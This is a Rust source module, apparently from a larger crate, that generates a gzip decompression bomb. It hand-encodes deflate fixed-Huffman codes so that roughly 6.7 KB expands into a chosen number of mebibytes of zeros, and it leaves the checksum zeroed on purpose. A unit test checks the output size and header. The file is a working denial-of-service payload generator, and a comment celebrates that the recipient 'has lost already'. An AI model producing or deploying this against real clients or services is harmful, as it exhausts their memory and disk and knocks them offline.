//! A small body that unfolds into a large one (RFC 1951, 1952).

use bytes::Bytes;

/// How many bytes the longest match repeats.
const LONGEST: usize = 258;
/// That match, and the byte before it: code 285 and distance 1, in the fixed code of deflate, the first bit first.
const MATCH: &str = "1100010100000";
/// A zero, in the fixed code.
const ZERO: &str = "00110000";
/// The end of a block, in the fixed code.
const END: &str = "0000000";
/// This is the last block, and it is in the fixed code.
const HEAD: &str = "110";

/// So many mebibytes of zeros. The checksum at the end is left open: who has unfolded it all has lost already.
pub(super) fn bomb(mebibytes: u32) -> Bytes {
    let length = mebibytes as usize * 1024 * 1024;
    let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    let mut bits = Bits::default();
    bits.push(HEAD, &mut out);
    bits.push(ZERO, &mut out);
    let rest = length.saturating_sub(1);
    (0..rest / LONGEST).for_each(|_| bits.push(MATCH, &mut out));
    (0..rest % LONGEST).for_each(|_| bits.push(ZERO, &mut out));
    bits.push(END, &mut out);
    out.push(bits.byte);
    out.extend([0; 4]);
    out.extend(u32::try_from(length).unwrap_or(u32::MAX).to_le_bytes());
    out.into()
}

/// Bits that do not fill a byte yet, the first the lowest.
#[derive(Default)]
struct Bits {
    byte: u8,
    count: u32,
}

impl Bits {
    fn push(&mut self, code: &str, out: &mut Vec<u8>) {
        for bit in code.bytes() {
            self.byte |= u8::from(bit == b'1') << self.count;
            self.count += 1;
            if self.count == 8 {
                out.push(std::mem::take(&mut self.byte));
                self.count = 0;
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_bomb_is_small_and_says_how_large_it_is() {
        let bomb = bomb(1);
        assert_eq!(bomb.len(), 6688);
        assert_eq!(bomb[..3], [0x1f, 0x8b, 8]);
        assert_eq!(bomb[bomb.len() - 4..], 1_048_576_u32.to_le_bytes());
    }
}
